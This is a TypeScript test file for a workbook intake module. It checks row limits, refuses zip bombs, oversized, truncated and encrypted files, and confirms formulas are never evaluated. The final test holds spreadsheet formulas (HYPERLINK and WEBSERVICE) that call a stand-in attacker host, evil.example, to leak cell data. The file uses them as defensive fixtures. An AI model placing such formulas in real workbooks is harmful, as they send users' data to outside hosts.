/** Workbooks of addresses are read within limits, and formulas are never evaluated. */
import { expect, test } from 'vitest'
import { look, taken } from '#support/intake/read.ts'
import { workbook, workbookOfXml, zipBomb } from '#support/mails/workbook.ts'

test('100,000 rows are read', { timeout: 120_000 }, async () => {
  const rows = [['Đường dẫn', 'Loại']]
  for (let n = 0; n < 100_000; n++) rows.push([`https://www.facebook.com/groups/${1_000_000 + n}`, 'Nhóm'])
  const { counts, isPartial, rows: first } = await taken(workbook(rows))
  expect({ counts, isPartial }).toMatchObject({ counts: { taken: 50_000, refused: 0 }, isPartial: true })
  expect(first[0]).toMatchObject({ line: 2, url: 'https://facebook.com/groups/1000000', kind: 'GROUP' })
})

test.each([
  ['a sheet that unpacks to 200 MB', zipBomb(200_000_000), 'TOO_LARGE'],
  [
    'a sheet with a cell in the last row of Excel',
    workbookOfXml('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    'TOO_LARGE',
  ],
  ['an archive that is cut', workbookOfXml('<row r="1"/>').subarray(0, 200), 'MALFORMED'],
  ['the first bytes of an archive', Buffer.from('PK\u0003\u0004'), 'MALFORMED'],
  ['an old or encrypted workbook', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'ENCRYPTED'],
])('%s is refused', async (_, bytes, refused) => {
  expect(await look(bytes)).toEqual({ refused })
})

test('a formula gives its stored result, and is not evaluated', async () => {
  const cell = (place: string, content: string) => `<c r="${place}" t="str">${content}</c>`
  const formula = '<f>HYPERLINK("https://evil.example/"&amp;A1,"x")</f><v>https://www.facebook.com/groups/123456</v>'
  const bytes = workbookOfXml(
    `<row r="1">${cell('A1', '<v>Link</v>')}</row><row r="2">${cell('A2', formula)}</row>` +
      `<row r="3">${cell('A3', '<f>WEBSERVICE("https://evil.example/")</f>')}</row>`,
  )
  const { rows } = await taken(bytes)
  expect(rows.map(({ url }) => url)).toEqual(['https://facebook.com/groups/123456'])
})
